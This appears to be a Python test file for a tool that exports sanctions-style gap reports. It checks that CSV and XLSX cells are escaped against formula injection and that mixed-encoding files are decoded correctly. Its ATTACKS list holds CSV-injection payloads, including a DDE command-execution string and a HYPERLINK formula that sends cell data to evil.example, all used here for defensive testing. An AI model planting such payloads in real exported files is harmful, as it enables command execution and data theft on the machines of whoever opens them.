"""Spreadsheet cells interdict writes never run as formulas (issue 10, item 20: CSV injection).

Property test over cell values: a gap report written as CSV and as XLSX, read
back by `csv` and by openpyxl, never yields a cell a spreadsheet would
evaluate, and every other value comes back unchanged.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from interdict.gaps import GapReport, write_report
from interdict.gaps.export import CSV_COLUMNS, NOT_XML
from interdict.gaps.report import GapQuery, GapRow
from interdict.textfiles import FORMULA_STARTS, LINE_BREAK, TEXT_MARK, DecodedText, decode_guess, decode_lines, guessed_warning, spreadsheet_safe

# Text of any kind (control characters included), biased towards what spreadsheets evaluate.
CELL = st.text(max_size=30) | st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(FORMULA_STARTS) + ["\x01=", " ="]), st.text(max_size=20))
ATTACKS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "x;=1+1"]


def dangerous(value: str) -> bool:
    return bool(value) and value[0] in FORMULA_STARTS


def report_of(values: list[str]) -> GapReport:
    """A report whose text cells (id, names, reasons) hold `values`, one row per value."""
    rows = [GapRow(value, "Person", value, [value, value], ["us"], ["eu"], [], [], "high", value, "high", [], []) for value in values]
    return GapReport(query=GapQuery(["us"], ["eu"]), rows=rows, notes=[], datasets={}, resolution={})


TEXT_COLUMNS = ("cluster_id", "name", "other_names", "confidence_reason")


@given(values=st.lists(CELL, min_size=1, max_size=8) | st.just(ATTACKS))
@settings(max_examples=300, deadline=None, derandomize=True, database=None)
def test_written_cells_never_evaluate_and_safe_values_round_trip(values: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        csv_path, xlsx_path = Path(folder) / "gaps.csv", Path(folder) / "gaps.xlsx"
        report = report_of(values)
        write_report(report, csv_path)
        write_report(report, xlsx_path)
        with csv_path.open(encoding="utf-8", newline="") as handle:
            csv_rows = list(csv.DictReader(handle))
        sheet = load_workbook(xlsx_path)["gaps"]
        xlsx_rows = [dict(zip(CSV_COLUMNS, row)) for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))] == list(CSV_COLUMNS)
    assert len(csv_rows) == len(xlsx_rows) == len(values)
    for value, csv_row, xlsx_row in zip(values, csv_rows, xlsx_rows):
        for column in TEXT_COLUMNS:
            written, cell = csv_row[column], xlsx_row[column]
            text = "" if cell.value is None else str(cell.value)
            assert not dangerous(written) and not dangerous(text) and cell.data_type != "f", (column, value)
            expected = value  # other_names holds the second name, which is the value too
            if not dangerous(expected):
                assert written == expected
            else:
                assert written == TEXT_MARK + expected
            kept = NOT_XML.sub("", expected)  # XML cannot hold these; the rest must be intact
            assert text == (kept if not dangerous(kept) else TEXT_MARK + kept)


def test_spreadsheet_safe() -> None:
    assert [spreadsheet_safe(value) for value in ATTACKS] == [TEXT_MARK + value for value in ATTACKS[:-1]] + ["x;=1+1"]
    assert [spreadsheet_safe(value) for value in ("Ali Khamenei", "", None, 5, "a=b", "'=quoted", "＝1+1")] == ["Ali Khamenei", "", "", "5", "a=b", "'=quoted", "'＝1+1"]


def test_csv_data_cells_are_quoted_so_no_separator_can_split_them() -> None:
    """Excel in many locales splits CSV on `;`: an unquoted `x;=1+1` would become a formula cell."""
    from interdict.gaps.export import render_csv

    lines = render_csv(report_of(["x;=1+1"])).splitlines()
    assert lines[0] == ",".join(CSV_COLUMNS)
    assert lines[1].startswith('"counted","x;=1+1",') and lines[1].endswith('"') and lines[1].count('","') == len(CSV_COLUMNS) - 1
    assert next(csv.reader(io.StringIO(lines[1])))[1] == "x;=1+1"


# --- decoding files whose lines disagree (decode_lines) ---------------------------------------------

# Lines of names as exports hold them; no line breaks inside (a line is what is decoded on its own).
_UTF8_LINE = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\n"), max_size=20)
_LEGACY_LINE = st.text(alphabet=st.sampled_from("abcdeJosé María Müller Ørsted ÇÑÆ'-,;"), min_size=1, max_size=20)


def _valid_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


@given(
    lines=st.lists(st.tuples(st.booleans(), _UTF8_LINE, _LEGACY_LINE), min_size=1, max_size=8),
    anchor=st.text(alphabet="علیИванов李明", min_size=1, max_size=6),
    breaks=st.sampled_from([b"\n", b"\r\n"]),
)
@settings(max_examples=200, deadline=None, derandomize=True, database=None)
def test_a_mostly_utf8_file_keeps_every_utf8_line_and_names_the_others(lines: list[tuple[bool, str, str]], anchor: str, breaks: bytes) -> None:
    """One Windows-1252 line must not turn the file's Arabic, Cyrillic and Chinese names into mojibake."""
    expected = [anchor]
    encoded = [anchor.encode("utf-8")]
    legacy: set[int] = set()
    for number, (is_legacy, utf8, latin) in enumerate(lines, start=2):
        data = latin.encode("cp1252") if is_legacy else utf8.encode("utf-8")
        expected.append(latin if is_legacy else utf8)
        encoded.append(data)
        if is_legacy and not _valid_utf8(data):
            legacy.add(number)
        elif is_legacy:
            expected[-1] = data.decode("utf-8")  # plain ASCII (or, rarely, bytes that are UTF-8 too): read as UTF-8
    decoded = decode_lines(breaks.join(encoded))
    assert decoded.text.split(breaks.decode()) == expected
    assert set(decoded.guessed) == legacy
    assert all(decoded.guessed[number] == "cp1252" for number in legacy)


@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60))
@settings(max_examples=100, deadline=None, derandomize=True, database=None)
def test_a_utf8_file_is_read_whole_and_a_legacy_file_in_one_encoding(text: str) -> None:
    assert decode_lines(text.encode("utf-8")) == DecodedText(text, {})
    legacy = text.encode("cp1252", errors="ignore")
    decoded = decode_lines(legacy)
    lines = LINE_BREAK.split(legacy)[::2]
    if not _valid_utf8(legacy) and not any(not line.isascii() and _valid_utf8(line) for line in lines):
        # No line is UTF-8 beyond ASCII: the whole file in the first legacy encoding that reads it, and every line
        # beyond ASCII named, since its reading rests on that guess (an ASCII line reads the same in any of them).
        encoding = "cp1252" if decode_guess(legacy) == legacy.decode("cp1252", errors="replace") else "latin-1"
        beyond_ascii = {number: encoding for number, line in enumerate(lines, start=1) if not line.isascii()}
        assert decoded == DecodedText(decode_guess(legacy), beyond_ascii, whole_file=True)
        assert beyond_ascii  # a file that is not UTF-8 has a byte beyond ASCII somewhere


def test_the_warning_names_the_first_guessed_line_of_a_row() -> None:
    mixed = DecodedText("", {4: "cp1252", 9: "latin-1"})
    assert guessed_warning(range(3, 5), mixed) == (
        "line 4 is not UTF-8 like the rest of the file: it was read as Windows-1252; "
        "check that the name reads as written (save the file as UTF-8 to be sure)"
    )
    assert guessed_warning(range(1, 3), mixed) is None
    legacy = DecodedText("", {2: "latin-1"}, whole_file=True)
    assert guessed_warning(range(2, 3), legacy) == (
        "line 2 is not UTF-8: the file was read as Latin-1; check that the name reads as written (save the file as UTF-8 to be sure)"
    )


def test_a_legacy_file_names_its_lines_beyond_ascii_and_only_them() -> None:
    """A UTF-8 file damaged in one byte reads as Windows-1252 throughout: its Cyrillic name garbled, and said so."""
    data = b"name\nAli Khamenei\n" + "José García".encode("cp1252") + b"\n" + "Пётр".encode() + b"\xff\n"
    decoded = decode_lines(data)
    assert decoded.whole_file
    assert decoded.guessed == {3: "cp1252", 4: "cp1252"}
    assert decoded.text.split("\n")[2] == "José García"
